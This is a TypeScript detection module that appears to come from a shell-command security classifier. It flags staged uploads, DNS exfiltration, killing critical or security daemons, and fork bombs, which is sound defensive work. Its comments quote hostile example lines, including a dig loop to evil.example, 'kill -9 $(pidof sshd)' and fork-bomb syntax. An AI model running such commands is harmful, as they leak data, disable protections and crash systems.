// Data sent out beyond known secret paths, and harm that shows only across a line's commands:
// a file the line staged (wrote, archived, encoded) then uploaded; any file's content sent in
// DNS queries; a critical daemon found in the process list and killed; a fork bomb under any name
// (issue 27).
import type { ShellCommand } from "../shell/records.js";
import { KNOWN_COMMANDS } from "./command-table.js";
import { PROTECTION_SERVICES_RE, SECURITY_AGENT_RE } from "./commands/protections.js";
import { CRITICAL_SERVICES_RE } from "./commands/system.js";
import type { Effect, ThreatClass } from "./effect.js";

interface LineCommand {
  command: ShellCommand;
  effects: readonly Effect[];
}
type Add = (cls: ThreatClass, what: string) => void;

const DNS_CLIENTS = new Set(["dig", "nslookup", "host", "drill", "ping", "ping6", "kdig", "delv", "resolvectl"]);
const KNOWN: ReadonlySet<string> = new Set(KNOWN_COMMANDS);

/** The cross-command rules of this file over one line (see the header). */
export function outbound(cmds: readonly LineCommand[], where: { workspace: string }, add: Add): void {
  stagedUploads(cmds, where.workspace, add);
  dnsExfiltration(cmds, add);
  killByLookup(cmds, add);
  forkBomb(cmds, add);
}

/**
 * An upload of a file this line staged (wrote, archived, encoded) or of a file it names only by
 * a computed path (`-d @$tmp`), in a line that read files outside the workspace: data gathered
 * from the system and sent.
 */
function stagedUploads(cmds: readonly LineCommand[], workspace: string, add: Add): void {
  if (!cmds.some((ce) => ce.effects.some((e) => e.kind === "upload"))) return;
  const written = new Set<string>();
  let readOutside = false;
  for (const { command: c, effects } of cmds) {
    for (const e of effects) {
      if (e.kind === "read" && e.targets.some((t) => !t.startsWith(`${workspace}/`) && t !== workspace)) readOutside = true;
      if (e.kind === "upload" && readOutside && (e.targets.length === 0 || e.targets.some((t) => written.has(t))))
        add("exfiltration", "sends a file the call staged from files outside the workspace");
      if (e.kind === "overwrite" || e.kind === "download") for (const t of e.targets) written.add(t);
    }
    // `tar czf /tmp/x.tgz ...`: the archive written.
    if (c.name === "tar" || c.name === "zip" || c.name === "7z")
      for (const a of c.args) if (/\.(tar|tgz|gz|zip|7z|bz2|xz)$/.test(a)) written.add(a.startsWith("/") ? a : `${c.cwd}/${a}`);
  }
}

/** A file's content in DNS names: a read substituted into a DNS client, or a loop querying computed names while reading a file. */
function dnsExfiltration(cmds: readonly LineCommand[], add: Add): void {
  if (!cmds.some((ce) => DNS_CLIENTS.has(ce.command.name))) return;
  const dns = cmds.filter((ce) => DNS_CLIENTS.has(ce.command.name));
  const index = new Map(cmds.map((ce, i) => [ce.command, i]));
  const reads = cmds.filter((ce) => ce.effects.some((e) => e.kind === "read" && e.targets.length > 0));
  for (const r of reads) {
    const parent = r.command.parent === undefined ? undefined : cmds.find((ce) => index.get(ce.command) === r.command.parent);
    if (parent !== undefined && DNS_CLIENTS.has(parent.command.name)) add("exfiltration", "sends a file's content in DNS queries");
  }
  // `for l in $(xxd -p f); do dig $l.evil.example; done`: the name's first label is computed (read as empty).
  if (
    reads.length > 0 &&
    dns.some((ce) => ce.command.args.some((a) => /^\.[\w-]+\.[a-z]{2,}/i.test(a) || /\.\.[\w-]+\.[a-z]{2,}/i.test(a)))
  )
    add("exfiltration", "sends a file's content in DNS queries");
}

/** Programs that list processes: their output is where a loop finds the pids it kills. */
const PROCESS_LISTERS = new Set(["ps", "pgrep", "pidof", "pstree", "top", "lsof", "fuser"]);
/** Whether an argument names a critical service as a word: `sshd`, `*"containerd"*`, awk's `/systemd/`, `/usr/sbin/cron`. */
const namesCriticalService = (a: string): boolean => a.split(/[^\w.@-]+/).some((w) => w !== "" && CRITICAL_SERVICES_RE.test(w));
/** The same for a security or logging daemon (`rsyslogd`, `auditd`, `firewalld`): killing it turns a protection off. */
const namesProtection = (a: string): boolean =>
  a.split(/[^\w.@-]+/).some((w) => w.length > 3 && (PROTECTION_SERVICES_RE.test(w) || SECURITY_AGENT_RE.test(w)));

/**
 * `kill -9 $(pidof sshd)`, a loop over `ps` that kills what matches `*sshd*`, `pgrep cron | xargs
 * kill`: processes listed, a kill, and a critical daemon named anywhere in the line (the lister's
 * pattern, a filter, a test): the daemon found in the process list and killed.
 */
function killByLookup(cmds: readonly LineCommand[], add: Add): void {
  if (!cmds.some((ce) => ce.command.name === "kill")) return;
  const listed = cmds.some(
    (ce) => PROCESS_LISTERS.has(ce.command.name) || (ce.command.name === "ls" && ce.command.args.some((a) => a.startsWith("/proc"))),
  );
  if (!listed) return;
  if (cmds.some((ce) => ce.command.args.some(namesCriticalService)))
    add("service_disruption", "kills a service the system needs, found in the process list");
  if (cmds.some((ce) => ce.command.args.some(namesProtection)))
    add("protection_off", "kills a security or logging daemon found in the process list");
}

/** A function that pipes itself into itself, under any name (`:(){ :|:& };:`, `bomb(){ bomb|bomb& };bomb`). */
function forkBomb(cmds: readonly LineCommand[], add: Add): void {
  for (const a of cmds) {
    const n = a.command.name;
    if (a.command.pos !== 0 || a.command.args.length > 0 || KNOWN.has(n) || n === "") continue;
    const bare = (b: LineCommand): boolean => b.command.name === n && b.command.args.length === 0;
    const self = cmds.some((b) => b.command.pipe === a.command.pipe && b.command.pos === 1 && bare(b));
    // The definition's header, the body's pipe into itself, and the call: a bare name three times or more.
    if (self && cmds.filter(bare).length >= 3) {
      add("resource_abuse", "starts a fork bomb");
      return;
    }
  }
}
